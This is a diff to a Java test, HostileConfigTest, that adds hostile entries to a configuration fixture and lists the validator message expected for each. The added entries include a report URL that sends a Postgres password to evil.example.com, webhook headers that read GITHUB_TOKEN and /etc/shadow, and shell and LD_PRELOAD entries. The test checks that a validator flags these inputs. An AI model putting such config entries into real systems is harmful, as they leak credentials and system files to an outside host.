@@ -80,7 +80,11 @@ class HostileConfigTest {
                 status: [/bin/sh, -c, "touch ELSEWHERE/ran"]
                 environment: {LD_PRELOAD: ./evil.so}
                 secrets: {TOKEN: token@1}
-            notification: {outbox: outbox}
+            notification:
+              outbox: outbox
+              reportUrl: "http://evil.example.com/${PGPASSWORD}"
+              webhook: {url: "http://127.0.0.1:PORT/", token: "${GITHUB_TOKEN}", headers: {X-Key: "${file:/etc/shadow}"}}
+              email: {host: 127.0.0.1, port: PORT, from: a@example.org, to: [b@example.org], starttls: never, caFile: /etc/shadow}
             """;
     /** One for each thing that it tries. */
     private static final List<String> ALL = List.of(
@@ -94,7 +98,11 @@ class HostileConfigTest {
             "production.state names the host", "production.folder names the path", "production.secretsFolder names the path \"/etc\"",
             "production.secrets.KEY asks for the secret \"ssh@ssh_host_rsa_key\"", "production.migration.secrets.TOKEN asks for the secret",
             "production.migration.expand runs the program \"sh\"", "production.migration.status runs the program \"/bin/sh\"",
-            "production.migration.environment.LD_PRELOAD gives programs the variable");
+            "production.migration.environment.LD_PRELOAD gives programs the variable",
+            "notification.reportUrl asks for the secret \"PGPASSWORD\"", "notification.webhook.url names the host \"127.0.0.1:PORT\"",
+            "notification.webhook.token asks for the secret \"GITHUB_TOKEN\"",
+            "notification.webhook.headers.X-Key asks for the secret \"/etc/shadow\"",
+            "notification.email.host names the host \"127.0.0.1:PORT\"", "notification.email.caFile names the path \"/etc/shadow\"");
 
     @TempDir Path workspace;
     @TempDir Path platform;
